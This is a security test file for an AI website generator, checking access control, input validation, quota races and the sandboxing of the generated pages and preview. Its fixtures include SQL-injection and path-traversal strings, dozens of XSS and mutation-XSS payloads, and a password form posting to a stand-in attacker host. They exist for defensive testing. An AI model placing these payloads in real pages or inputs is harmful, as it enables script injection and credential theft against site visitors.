import { subscribe, waitFor, wsClient } from '@lattice/testkit';
import type { AiLattice } from './support/ai';
import { newCustomer } from './support/billing';
import {
  attr,
  CREATE_SITE,
  downloadArchive,
  elementsOf,
  finishedVersion,
  gql,
  ok,
  scriptedSite,
  SITE,
  SITE_GENERATION,
  startSitesLattice,
  unzip,
} from './support/sites';
import { postToSubgraph } from './support/subgraph-requests';

// An outsider and a careless client against sites: other people's ids on every path, bad
// input, races on the quota and on one site, hostile model output (in the ZIP and the
// preview), the live feed's edges and the preview's HTTP edges.
let world: AiLattice;
const LIMIT = 2;
beforeAll(async () => {
  world = await startSitesLattice({
    PLANS: JSON.stringify({ free: { limits: { siteGenerations: LIMIT } } }),
  });
}, 60_000);
afterAll(() => world?.stop());
afterEach(() => world.openai.reset());

type User = Awaited<ReturnType<typeof newCustomer>>;

const RENAME = 'mutation($id: ID!, $name: String!) { renameSite(id: $id, name: $name) { id name } }';
const DELETE = 'mutation($id: ID!) { deleteSite(id: $id) }';
const REGENERATE =
  'mutation($id: ID!, $i: String) { regenerateSite(id: $id, instructions: $i) { id number } }';
const REGENERATE_PAGE = `mutation($id: ID!, $path: String!, $i: String) {
  regeneratePage(id: $id, path: $path, instructions: $i) { id number }
}`;
const CANCEL = 'mutation($id: ID!) { cancelSiteGeneration(id: $id) { id status } }';
const MY_SITES = '{ me { sites(first: 50) { edges { node { id name } } } } }';

const origin = () => world.lattice.gateway.url.replace(/\/graphql$/, '');

/** A one-page site (no images unless asked) generated to its end; its latest version. */
async function readySite(
  user: User,
  pages = [{ path: 'index.html', title: 'Home', html: '<h1>Hello</h1>' }],
  images: string[] = [],
) {
  world.openai.replies(scriptedSite(pages, images));
  const { createSite } = await ok(world.lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A small site for a corner shop', pages: pages.length, images: images.length },
  });
  const site = await finishedVersion(world.lattice, user.token, createSite.id);
  expect(site.latestVersion.status).toBe('READY');
  return site;
}

/** A live feed of a site's generation, with its own socket (closed by `close`). */
function watch(user: User, siteId: string, after?: number) {
  const client = wsClient(world.lattice.gateway.url, user.token);
  const feed = subscribe(client, SITE_GENERATION, { s: siteId, after });
  return Object.assign(feed, {
    events: () =>
      feed
        .data()
        .filter(Boolean)
        .map((data: any) => data.siteGeneration),
    close: async () => {
      feed.stop();
      await client.dispose();
    },
  });
}

const errorCode = (answer: { errors?: ReadonlyArray<{ extensions?: Record<string, unknown> }> }) =>
  answer.errors?.[0]?.extensions?.code;

async function usedGenerations(user: User): Promise<number> {
  const { me } = await ok(world.lattice, user.token, '{ me { usage { meter used } } }');
  return me.usage.find((meter: any) => meter.meter === 'siteGenerations')?.used ?? 0;
}

test("another user's site and version are NOT_FOUND on every path, null in _entities, and stay unchanged", async () => {
  const { lattice } = world;
  const owner = await newCustomer(lattice);
  const outsider = await newCustomer(lattice);
  const site = await readySite(owner);
  const versionId = site.latestVersion.id;

  const attempts: Array<[string, Record<string, unknown>]> = [
    [SITE, { id: site.id }],
    [RENAME, { id: site.id, name: 'Mine now' }],
    [DELETE, { id: site.id }],
    [REGENERATE, { id: site.id }],
    [REGENERATE_PAGE, { id: site.id, path: 'index.html' }],
    [CANCEL, { id: site.id }],
    // A version id where a site id is expected names nothing either.
    [SITE, { id: versionId }],
  ];
  for (const [query, variables] of attempts) {
    const answer = await gql(lattice, outsider.token, query, variables);
    expect(answer.data ?? null).toBeNull();
    expect(errorCode(answer)).toBe('NOT_FOUND');
  }

  const feed = watch(outsider, site.id, 0);
  try {
    await waitFor(() => Boolean(feed.ended.error) || feed.results.length > 0);
    expect(feed.events()).toEqual([]);
    expect(JSON.stringify(feed.ended.error ?? feed.results)).toContain('NOT_FOUND');
  } finally {
    await feed.close();
  }

  // Straight to the subgraph, as the gateway would ask, signed: null for another's, FORBIDDEN for their list.
  const entities = async (token: string, representations: unknown[], selection: string) =>
    (await postToSubgraph(
      lattice,
      'sites',
      {
        query: `query($r: [_Any!]!) { _entities(representations: $r) { ${selection} } }`,
        variables: { r: representations },
      },
      { authorization: `Bearer ${token}` },
    ).then((response) => response.json())) as any;
  const selection = '... on Site { id name prompt } ... on SiteVersion { id previewUrl files { path } }';
  const reps = [
    { __typename: 'Site', id: site.id },
    { __typename: 'SiteVersion', id: versionId },
    { __typename: 'Site', id: "' or 1=1 --" },
    { __typename: 'SiteVersion', id: '1' },
  ];
  const stolen = await entities(outsider.token, reps, selection);
  expect(stolen.data._entities).toEqual([null, null, null, null]);
  // The same request as the owner does resolve: the nulls above are the owner check, not a broken request.
  const mine = await entities(owner.token, reps.slice(0, 2), selection);
  expect(mine.data._entities.map((entity: any) => entity?.id)).toEqual([site.id, versionId]);
  const list = await entities(
    outsider.token,
    [{ __typename: 'User', id: owner.id }],
    '... on User { sites { edges { node { id } } } }',
  );
  expect(errorCode(list)).toBe('FORBIDDEN');
  expect(JSON.stringify(list.data ?? null)).not.toContain(site.id);

  // The archive is the owner's media alone.
  const archive = await waitFor(
    async () => (await ok(lattice, owner.token, SITE, { id: site.id })).site.archive,
  );
  const media = await gql(lattice, outsider.token, 'query($id: ID!) { media(id: $id) { id url } }', {
    id: archive.id,
  });
  expect(errorCode(media)).toBe('NOT_FOUND');

  // Nothing changed, nothing was spent for the outsider.
  const after = await ok(lattice, owner.token, SITE, { id: site.id });
  expect(after.site.name).toBe(site.name);
  expect(after.site.versions.edges).toHaveLength(1);
  expect(after.site.latestVersion.status).toBe('READY');
  expect(await usedGenerations(outsider)).toBe(0);
});

test('bad input is BAD_USER_INPUT naming its field, ids that are not UUIDs are NOT_FOUND, and nothing changes', async () => {
  const { lattice } = world;
  const user = await newCustomer(lattice);
  const good = { prompt: 'A site for a careful client', pages: 1, images: 0 };
  const badCreates: Array<[Record<string, unknown>, string]> = [
    [{ prompt: 'too short' }, 'input.prompt'],
    [{ prompt: '          x' }, 'input.prompt'], // ten spaces and a letter: one character once trimmed
    [{ prompt: 'x'.repeat(4001) }, 'input.prompt'],
    [{ prompt: `A site\u202e for spoofing` }, 'input.prompt'],
    [{ pages: 0 }, 'input.pages'],
    [{ pages: 9 }, 'input.pages'],
    [{ pages: -1 }, 'input.pages'],
    [{ images: 5 }, 'input.images'],
    [{ images: -1 }, 'input.images'],
    [{ language: 'xx-!!' }, 'input.language'],
    [{ language: '' }, 'input.language'],
    [{ language: 'en"><script>alert(1)</script>' }, 'input.language'],
    [{ name: '' }, 'input.name'],
    [{ name: '    ' }, 'input.name'],
    [{ name: 'n'.repeat(121) }, 'input.name'],
    [{ name: '\u200b\u200b\u3164' }, 'input.name'],
    [{ name: 'evil\u0000name' }, 'input.name'],
    [{ colorScheme: 'c'.repeat(201) }, 'input.colorScheme'],
  ];
  for (const [change, field] of badCreates) {
    const answer = await gql(lattice, user.token, CREATE_SITE, { input: { ...good, ...change } });
    expect({ change: Object.keys(change), extensions: answer.errors?.[0]?.extensions }).toMatchObject({
      extensions: { code: 'BAD_USER_INPUT', field },
    });
  }
  expect((await ok(lattice, user.token, MY_SITES)).me.sites.edges).toEqual([]);
  expect(await usedGenerations(user)).toBe(0);
  // No token: nothing at all.
  expect(errorCode(await gql(lattice, undefined, CREATE_SITE, { input: good }))).toBe('UNAUTHENTICATED');
  for (const first of [-1, 1_000_000]) {
    const page = await gql(
      lattice,
      user.token,
      `{ me { sites(first: ${first}) { edges { node { id } } } } }`,
    );
    expect(page.data?.me ?? null).toBeNull();
    expect(['BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED']).toContain(errorCode(page));
  }

  const site = await readySite(user);
  const badChanges: Array<[string, Record<string, unknown>, string]> = [
    [RENAME, { id: site.id, name: '' }, 'name'],
    [RENAME, { id: site.id, name: ' \t ' }, 'name'],
    [RENAME, { id: site.id, name: 'n'.repeat(121) }, 'name'],
    [RENAME, { id: site.id, name: '\u2800\u200b' }, 'name'],
    [REGENERATE, { id: site.id, i: 'i'.repeat(2001) }, 'instructions'],
    [REGENERATE_PAGE, { id: site.id, path: '../x.html' }, 'path'],
    [REGENERATE_PAGE, { id: site.id, path: 'INDEX.HTML' }, 'path'],
    [REGENERATE_PAGE, { id: site.id, path: 'images/hero.png' }, 'path'],
    [REGENERATE_PAGE, { id: site.id, path: 'index.html\u0000' }, 'path'],
    [REGENERATE_PAGE, { id: site.id, path: 'index.html', i: 'i'.repeat(2001) }, 'instructions'],
  ];
  for (const [query, variables, field] of badChanges) {
    const answer = await gql(lattice, user.token, query, variables);
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field });
  }
  for (const id of ['1', "' or 1=1 --", `${site.id}'`, site.id.toUpperCase().replace(/-/g, '')]) {
    for (const [query, variables] of [
      [SITE, { id }],
      [RENAME, { id, name: 'Fine name' }],
      [DELETE, { id }],
      [REGENERATE, { id }],
      [REGENERATE_PAGE, { id, path: 'index.html' }],
      [CANCEL, { id }],
    ] as const) {
      const answer = await gql(lattice, user.token, query, variables);
      expect({ query, id, code: errorCode(answer) }).toEqual({ query, id, code: 'NOT_FOUND' });
    }
    const feed = watch(user, id);
    try {
      await waitFor(() => Boolean(feed.ended.error) || feed.results.length > 0);
      expect(JSON.stringify(feed.ended.error ?? feed.results)).toContain('NOT_FOUND');
    } finally {
      await feed.close();
    }
  }
  // A page the site does not have is NOT_FOUND, not a new version.
  expect(errorCode(await gql(lattice, user.token, REGENERATE_PAGE, { id: site.id, path: 'blog.html' }))).toBe(
    'NOT_FOUND',
  );
  // A cursor that is not one is refused, never a server error.
  const cursor = await gql(
    lattice,
    user.token,
    `query($id: ID!) { site(id: $id) { versions(after: "' or 1=1 --") { edges { node { id } } } } }`,
    { id: site.id },
  );
  expect(cursor.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'after' });

  const after = await ok(lattice, user.token, SITE, { id: site.id });
  expect(after.site.name).toBe(site.name);
  expect(after.site.versions.edges).toHaveLength(1);
  expect(await usedGenerations(user)).toBe(1);
});

test('five createSite at once past a plan of two: exactly two made, three QUOTA_EXCEEDED, usage exact', async () => {
  const { lattice } = world;
  const user = await newCustomer(lattice);
  const answers = await Promise.all(
    Array.from({ length: 5 }, (_, i) =>
      gql(lattice, user.token, CREATE_SITE, {
        input: { prompt: `Racing site number ${i} for a bakery`, pages: 1, images: 0 },
      }),
    ),
  );
  const made = answers.filter((answer) => answer.data?.createSite?.id);
  const refused = answers.filter((answer) => errorCode(answer) === 'QUOTA_EXCEEDED');
  expect([made.length, refused.length]).toEqual([LIMIT, 5 - LIMIT]);
  for (const answer of refused)
    expect(answer.errors?.[0]?.extensions).toMatchObject({ meter: 'siteGenerations' });
  const { me } = await ok(lattice, user.token, MY_SITES);
  expect(me.sites.edges.map((edge: any) => edge.node.id).sort()).toEqual(
    made.map((answer) => answer.data!.createSite.id).sort(),
  );
  expect(await usedGenerations(user)).toBe(LIMIT);
  for (const answer of made) await finishedVersion(lattice, user.token, answer.data!.createSite.id);
  expect(await usedGenerations(user)).toBe(LIMIT);
});

test('five regenerateSite at once on one site: exactly one queued, the others CONFLICT, one generation spent', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  const site = await readySite(user);
  openai.delay({ firstTokenMs: 1500 }); // the winner's job keeps running while the others arrive
  const answers = await Promise.all(
    Array.from({ length: 5 }, (_, i) => gql(lattice, user.token, REGENERATE, { id: site.id, i: `Try ${i}` })),
  );
  const won = answers.filter((answer) => answer.data?.regenerateSite);
  expect(won).toHaveLength(1);
  expect(won[0]!.data!.regenerateSite.number).toBe(2);
  expect(answers.map(errorCode).filter(Boolean)).toEqual(['CONFLICT', 'CONFLICT', 'CONFLICT', 'CONFLICT']);
  const { site: now } = await ok(lattice, user.token, SITE, { id: site.id });
  expect(now.versions.edges.map((edge: any) => edge.node.number)).toEqual([2, 1]);
  expect(await usedGenerations(user)).toBe(2);
  await ok(lattice, user.token, CANCEL, { id: site.id });
  expect((await finishedVersion(lattice, user.token, site.id)).latestVersion.status).toBe('CANCELLED');
});

test('a double-clicked cancel (five at once) is never NOT_FOUND, and the version ends CANCELLED', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  openai.delay({ firstTokenMs: 1500 });
  const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A slow site cancelled by an impatient user', pages: 3, images: 0 },
  });
  await waitFor(async () => {
    const { site } = await ok(lattice, user.token, SITE, { id: createSite.id });
    return site.latestVersion.status === 'RUNNING';
  });
  const answers = await Promise.all(
    Array.from({ length: 5 }, () => gql(lattice, user.token, CANCEL, { id: createSite.id })),
  );
  // Each is either accepted or CONFLICT (already stopping): the site exists all along.
  const codes = answers.map((answer) => errorCode(answer) ?? 'OK');
  expect(codes.filter((code) => code !== 'OK' && code !== 'CONFLICT')).toEqual([]);
  expect(codes).toContain('OK');
  expect((await finishedVersion(lattice, user.token, createSite.id)).latestVersion.status).toBe('CANCELLED');
});

test('a cancel racing the end of a job: either it is cancelled (no archive) or the cancel is CONFLICT', async () => {
  const { lattice } = world;
  const outcomes: string[] = [];
  for (const delayMs of [0, 100, 250, 400, 600, 3000]) {
    const user = await newCustomer(lattice);
    world.openai.replies(scriptedSite([{ path: 'index.html', title: 'Home', html: '<h1>Quick</h1>' }]));
    const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
      input: { prompt: 'A quick site racing its cancel', pages: 1, images: 0 },
    });
    await new Promise((resolve) => setTimeout(resolve, delayMs));
    const cancel = await gql(lattice, user.token, CANCEL, { id: createSite.id });
    const site = await finishedVersion(lattice, user.token, createSite.id);
    const version = site.latestVersion;
    if (cancel.data?.cancelSiteGeneration) {
      // The cancel was accepted: the version must end CANCELLED, with no archive, no preview.
      expect({
        delayMs,
        status: version.status,
        archive: version.archive,
        previewUrl: version.previewUrl,
      }).toEqual({
        delayMs,
        status: 'CANCELLED',
        archive: null,
        previewUrl: null,
      });
    } else {
      expect({ delayMs, code: errorCode(cancel), status: version.status }).toEqual({
        delayMs,
        code: 'CONFLICT',
        status: 'READY',
      });
    }
    outcomes.push(version.status);
    world.openai.reset();
  }
  // Both sides of the race were exercised at least once over the delays.
  expect(outcomes).toContain('READY');
});

test('deleteSite while its job runs: the job stops, no archive appears later, the feed ends and nothing errors', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  openai.delay({ firstTokenMs: 600 });
  const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A site deleted while it is being written', pages: 4, images: 0 },
  });
  const feed = watch(user, createSite.id);
  try {
    await waitFor(() => feed.events().some((event: any) => event.step === 'PAGES'), { timeoutMs: 20_000 });
    expect((await ok(lattice, user.token, DELETE, { id: createSite.id })).deleteSite).toBe(true);
    const asked = openai.requestCount();
    await new Promise((resolve) => setTimeout(resolve, 4000));
    // At most the request in flight when it was deleted; nothing after.
    expect(openai.requestCount()).toBeLessThanOrEqual(asked + 1);
    expect(errorCode(await gql(lattice, user.token, SITE, { id: createSite.id }))).toBe('NOT_FOUND');
    expect((await ok(lattice, user.token, MY_SITES)).me.sites.edges).toEqual([]);
    const { myMedia } = await ok(lattice, user.token, '{ myMedia { edges { node { id } } } }');
    expect(myMedia.edges).toEqual([]);
    expect(feed.events().some((event: any) => event.status === 'READY')).toBe(false);
    // The user can still work: a new site generates (their second of two).
    openai.reset();
    await readySite(user);
    // A deleted site's feed has nothing more to say: it ends (complete or NOT_FOUND), it does not hang.
    await waitFor(() => Boolean(feed.ended.complete || feed.ended.error), {
      timeoutMs: 3000,
      message: 'the feed of a deleted site to end',
    });
  } finally {
    await feed.close();
  }
});

const HOSTILE_PAGE = `<!doctype html><html><head>
<base href="https://evil.example/">
<meta http-equiv="Refresh " content="0;url=https://evil.example/phish">
<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="//evil.example/p">
<title>Home</title><script src="https://evil.example/x.js"></script>
<style>@import 'https://evil.example/a.css'; @\\69mport url(//evil.example/b.css);
body { background: url(javascript:alert(1)); width: expression(alert(1)); behavior: url(x.htc) }
.a { background-image: image-set("https://evil.example/t.png" 1x) } .b { background: u\\72l(https://evil.example/u) }</style>
</head><body>
<script>fetch('/graphql', { credentials: 'include' })</script>
<img src=x onerror="alert(1)"><img src="images/x.png" onload="alert(2)" srcset="https://evil.example/a.png 2x">
<svg><script>alert(3)</script><a href="javascript:alert(4)"><text>svg link</text></a>
  <animate attributeName="href" values="javascript:alert(5)"/><set attributeName="xlink:href" to="javascript:alert(6)"/>
  <use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(7)</script></svg>#x"/>
  <image href="https://evil.example/i.png"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert(8)">m</maction></math>
<a href="javascript:alert(9)">one</a> <a href="jav&#x09;ascript:alert(10)">two</a> <a href=" JaVaScRiPt:alert(11)">three</a>
<a href="data:text/html,<script>alert(12)</script>">four</a> <a href="https://evil.example/out" ping="https://evil.example/ping">out</a>
<iframe srcdoc="<script>alert(13)</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="javascript:alert(14)">Go</button></form>
<input type="image" src="https://evil.example/b.png"><video poster="https://evil.example/p.png"></video>
<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript>
<template><script>alert(16)</script><img src=x onerror=alert(17)></template>
<div style="background:url(https://evil.example/track.png)">styled</div>
<p>Visible text stays.</p>
<svg></p><style><a id="</style><img src=1 onerror=alert(18)>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(19)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(20)>
</body></html>`;

const HOSTILE_CSS = `@import url(https://evil.example/x.css);
@\\69mport "https://evil.example/y.css";
body { background: url(javascript:alert(1)); color: #123 }
.x { width: expression(alert(2)); -moz-binding: url(https://evil.example/b.xml#x) }
.y { background: url("https://evil.example/t.png") } @font-face { font-family: f; src: url(//evil.example/f.woff) }
.z { background: url(data:image/svg+xml,<svg onload=alert(3)>) }
.e { background: url(\\68ttps://evil.example/e.png) } .f { background: url( 'https://evil.example/f.png' ) }
@media screen { .g { background: url(https://evil.example/g.png) } }
.h { background: image-set(url(https://evil.example/h.png) 1x) } .i { --v: url(https://evil.example/i.png) }
@font-face { font-family: g; src: local(x), url("//evil.example/g.woff") }
.keep { padding: 1rem }`;

/** Whether anything in a page could run code, load from elsewhere or send data off the site. */
function unsafeBits(html: string): string[] {
  const found: string[] = [];
  for (const node of elementsOf(html)) {
    const name = node.nodeName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'base', 'noscript', 'frame', 'applet'].includes(name))
      found.push(`<${name}>`);
    if (name === 'meta' && /refresh/i.test(attr(node, 'http-equiv') ?? '')) found.push('<meta refresh>');
    for (const { name: attrName, value } of node.attrs ?? []) {
      // eslint-disable-next-line no-control-regex
      const flat = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (/^on/i.test(attrName)) found.push(`${attrName} on <${name}>`);
      if (attrName === 'srcdoc') found.push(`srcdoc on <${name}>`);
      if (/^(javascript|vbscript|data):/.test(flat))
        found.push(`${attrName}=${flat.slice(0, 30)} on <${name}>`);
      // Only a plain link may leave the site (and opens without an opener or referrer).
      if (flat.includes('evil.example') && !(name === 'a' && attrName === 'href'))
        found.push(`${attrName}=${flat.slice(0, 40)} on <${name}>`);
      if (attrName === 'style' && /expression|javascript|url\(|@import/i.test(value))
        found.push(`style=${value}`);
    }
    if (name === 'a' && /evil\.example/.test(attr(node, 'href') ?? '')) {
      const rel = (attr(node, 'rel') ?? '').split(/\s+/);
      if (!rel.includes('noopener') || !rel.includes('noreferrer'))
        found.push('external link with an opener');
    }
  }
  for (const match of html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/gi))
    found.push(...unsafeCss(match[1]!).map((bit) => `<style> ${bit}`));
  return found;
}

function unsafeCss(css: string): string[] {
  const decoded = css.replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) =>
    String.fromCodePoint(parseInt(hex, 16)),
  );
  return [
    /@import/i,
    /javascript:/i,
    /expression\s*\(/i,
    /evil\.example/i,
    /-moz-binding/i,
    /behavior/i,
    /data:/i,
  ]
    .filter((pattern) => pattern.test(decoded))
    .map(String);
}

test('hostile model output: a hostile plan, page and stylesheet leave nothing unsafe in the ZIP or the preview', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  const plan = {
    title: 'Evil </title><script>alert(0)</script>',
    description: 'x',
    pages: [
      { path: '../../etc/passwd', title: 'Passwd', purpose: 'climb out' },
      { path: 'index.html', title: 'Index again', purpose: 'twice' },
      ...Array.from({ length: 48 }, (_, i) => ({ path: `p${i}.html`, title: `P${i}`, purpose: 'too many' })),
    ],
    images: [
      { path: '../../x.png', prompt: 'a picture that climbs', alt: 'x' },
      { path: '/etc/y.png', prompt: 'another one', alt: 'y' },
    ],
  };
  openai.replies([
    JSON.stringify(plan),
    JSON.stringify({ css: HOSTILE_CSS }),
    JSON.stringify({ title: '</title><script>alert(0)</script>', html: HOSTILE_PAGE }),
    JSON.stringify({ title: 'Second', html: HOSTILE_PAGE.replace('Visible text stays.', 'Second page.') }),
  ]);
  const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A site the model tries to turn against its user', pages: 2, images: 1 },
  });
  const site = await finishedVersion(lattice, user.token, createSite.id);
  const version = site.latestVersion;
  expect(version.status).toBe('READY');
  // The plan was held to what was asked: two pages (index.html first, no climbing, none twice), one image.
  const paths = version.files.map((file: any) => file.path).sort();
  expect(paths).toHaveLength(4);
  expect(paths).toEqual(expect.arrayContaining(['index.html', 'styles.css']));
  for (const path of paths) expect(path).toMatch(/^(images\/)?[a-z0-9-]+\.(html|css|png)$/);
  expect(paths.filter((path: string) => path.startsWith('images/'))).toHaveLength(1);
  expect(version.repairs.length).toBeGreaterThan(10);

  const zip = await unzip(await downloadArchive(lattice, user.token, createSite.id));
  expect([...zip.keys()].sort()).toEqual(paths);
  for (const name of zip.keys()) expect(name.split('/')).not.toContain('..');
  for (const [name, bytes] of zip) {
    if (name.endsWith('.html')) {
      const html = bytes.toString();
      expect({ name, unsafe: unsafeBits(html) }).toEqual({ name, unsafe: [] });
      expect(html).toContain(name === 'index.html' ? 'Visible text stays.' : 'Second page.');
      const titles = elementsOf(html).filter((node) => node.nodeName === 'title');
      expect(titles).toHaveLength(1);
    }
    if (name.endsWith('.css')) {
      const css = bytes.toString();
      expect(unsafeCss(css)).toEqual([]);
      expect(css).toContain('padding: 1rem');
    }
  }

  // The preview serves the same checked files, each under the sandboxing policy.
  const preview: string = version.previewUrl;
  for (const path of paths) {
    const response = await fetch(new URL(path, preview));
    expect(response.status).toBe(200);
    const policy = response.headers.get('content-security-policy') ?? '';
    expect({ path, policy }).toMatchObject({ path, policy: expect.stringMatching(/^sandbox allow-popups/) });
    expect(policy).not.toContain('allow-scripts');
    expect(policy).not.toContain('allow-same-origin');
    expect(policy).toContain("script-src 'none'");
    expect(policy).toContain("form-action 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const body = Buffer.from(await response.arrayBuffer());
    expect(body.equals(zip.get(path)!)).toBe(true);
  }
});

test('allowScripts keeps inline scripts only, and the preview still sandboxes them without the same origin', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  openai.replies(
    scriptedSite([
      {
        path: 'index.html',
        title: 'Home',
        html: `<h1 id="t">Counter</h1><script>document.getElementById('t').textContent = 'Counted'</script>
          <script src="https://evil.example/x.js"></script><script src="local.js"></script>
          <iframe srcdoc="<script>parent.document.cookie</script>" src="index.html"></iframe>
          <img src="https://evil.example/pixel.gif"><object data="https://evil.example/o"></object>`,
      },
    ]),
  );
  const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A site with a little script', pages: 1, images: 0, allowScripts: true },
  });
  expect(createSite.options.allowScripts).toBe(true);
  const site = await finishedVersion(lattice, user.token, createSite.id);
  expect(site.latestVersion.status).toBe('READY');
  const html = (await unzip(await downloadArchive(lattice, user.token, createSite.id)))
    .get('index.html')!
    .toString();
  const elements = elementsOf(html);
  const scripts = elements.filter((node) => node.nodeName === 'script');
  expect(scripts).toHaveLength(1);
  expect(attr(scripts[0]!, 'src')).toBeUndefined();
  expect(html).toContain("textContent = 'Counted'");
  expect(html).not.toContain('evil.example');
  expect(elements.some((node) => node.nodeName === 'object')).toBe(false);
  expect(elements.some((node) => attr(node, 'srcdoc') !== undefined)).toBe(false);

  const response = await fetch(site.latestVersion.previewUrl);
  expect(response.status).toBe(200);
  const policy = response.headers.get('content-security-policy')!;
  const sandbox = policy.split(';')[0]!.trim().split(/\s+/);
  expect(sandbox[0]).toBe('sandbox');
  expect(sandbox).toContain('allow-scripts');
  expect(sandbox).not.toContain('allow-same-origin');
  expect(sandbox).not.toContain('allow-top-navigation');
  expect(sandbox).not.toContain('allow-forms');
  expect(policy).toContain("script-src 'unsafe-inline'");
  expect(policy).toContain("default-src 'none'"); // no fetch, XHR or WebSocket anywhere
  expect(policy).not.toMatch(/connect-src/);
});

test('the live feed with odd `after`s: negative replays all, far ahead waits for the next version', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  const site = await readySite(user);
  const all = watch(user, site.id, -5);
  const ahead = watch(user, site.id, 999_999);
  try {
    await waitFor(() => all.events().some((event: any) => event.status === 'READY'));
    const events = all.events();
    expect(events.map((event: any) => event.sequence)).toEqual(events.map((_: unknown, i: number) => i + 1));
    expect(events[0]).toMatchObject({ status: 'QUEUED', sequence: 1 });
    expect(all.ended).toEqual({});
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(ahead.results).toEqual([]);
    expect(ahead.ended).toEqual({});

    // A new version is followed from its first event by both, whatever `after` was.
    openai.replies(scriptedSite([{ path: 'index.html', title: 'Home', html: '<h1>Again</h1>' }]));
    const { regenerateSite } = await ok(lattice, user.token, REGENERATE, { id: site.id });
    for (const feed of [all, ahead]) {
      await waitFor(
        () =>
          feed
            .events()
            .some((event: any) => event.versionId === regenerateSite.id && event.status === 'READY'),
        { timeoutMs: 30_000 },
      );
      const second = feed.events().filter((event: any) => event.versionId === regenerateSite.id);
      expect(second.map((event: any) => event.sequence)).toEqual(
        second.map((_: unknown, i: number) => i + 1),
      );
    }
    expect(ahead.events().every((event: any) => event.versionId === regenerateSite.id)).toBe(true);
  } finally {
    await all.close();
    await ahead.close();
  }
  // An `after` past what GraphQL's Int holds is refused by validation, not a server error.
  const feed = watch(user, site.id, 2 ** 31);
  try {
    await waitFor(() => Boolean(feed.ended.error) || feed.results.length > 0);
    expect(JSON.stringify(feed.ended.error ?? feed.results)).not.toContain('INTERNAL_SERVER_ERROR');
    expect(feed.events()).toEqual([]);
  } finally {
    await feed.close();
  }
});

test('the preview over HTTP: only GET and HEAD, no Range games, odd paths 404, altered grants 403, never a 500', async () => {
  const { lattice } = world;
  const user = await newCustomer(lattice);
  const site = await readySite(
    user,
    [
      {
        path: 'index.html',
        title: 'Home',
        html: '<h1>Preview me</h1><img src="images/hero.png" alt="hero">',
      },
    ],
    ['images/hero.png'],
  );
  const preview = new URL(site.latestVersion.previewUrl as string);
  const grant = preview.pathname.split('/')[3]!;
  const [id, expires, mac] = grant.split('.') as [string, string, string];
  const at = (path: string, init?: RequestInit) => fetch(`${origin()}/sites/preview/${path}`, init);

  const page = await at(`${grant}/index.html`);
  const body = await page.text();
  expect(page.status).toBe(200);
  for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
    const response = await at(`${grant}/index.html`, { method, body: method === 'DELETE' ? undefined : 'x' });
    expect({ method, status: response.status }).toEqual({ method, status: 405 });
    expect(response.headers.get('allow')).toBe('GET, HEAD');
  }
  const head = await at(`${grant}/index.html`, { method: 'HEAD' });
  expect(head.status).toBe(200);
  expect(head.headers.get('content-length')).toBe(String(Buffer.byteLength(body)));
  expect(head.headers.get('content-security-policy')).toMatch(/^sandbox /);
  expect(await head.text()).toBe('');
  const imageHead = await at(`${grant}/images/hero.png`, { method: 'HEAD' });
  expect([imageHead.status, imageHead.headers.get('content-type')]).toEqual([200, 'image/png']);
  expect(imageHead.headers.get('content-security-policy')).toMatch(/^sandbox /);
  expect(await imageHead.text()).toBe('');

  // Range is not served partially: the whole file, as a 200 (never a 206 with the wrong bytes).
  const ranged = await at(`${grant}/index.html`, { headers: { range: 'bytes=0-3' } });
  expect(ranged.status).toBe(200);
  expect(await ranged.text()).toBe(body);

  // Without the trailing slash: to the grant's folder, on the same host.
  const bare = await at(grant, { redirect: 'manual' });
  expect(bare.status).toBe(308);
  expect(bare.headers.get('location')).toBe(`/sites/preview/${grant}/`);

  // Names that are none of the version's files: 404, never a 500, never another file.
  const odd = [
    '..%2Findex.html',
    'images%5Chero.png',
    '%5Cindex.html',
    'index.html%2F',
    '.%2Findex.html',
    'INDEX.HTML',
    '%E0%A4%A',
    'x'.repeat(6000),
    'index.html%00',
    '%00',
    'index.html%00.png',
  ];
  const statuses = await Promise.all(
    odd.map(async (path) => {
      const response = await at(`${grant}/${path}`);
      const sandboxed = response.headers.get('content-security-policy')?.includes('sandbox') ?? false;
      return `${path.slice(0, 20)} ${response.status}${sandboxed ? '' : ' unsandboxed'}`;
    }),
  );

  // Altered grants: an expiry in the past, too long, negative or not a number; a MAC of another case; a grant with a path in it.
  const past = String(Math.floor(Date.now() / 1000) - 60);
  const forgeries = [
    `${id}.${past}.${mac}`,
    `${id}.0.${mac}`,
    `${id}.-1.${mac}`,
    `${id}.${expires}0.${mac}`,
    `${id}.9999999999999.${mac}`,
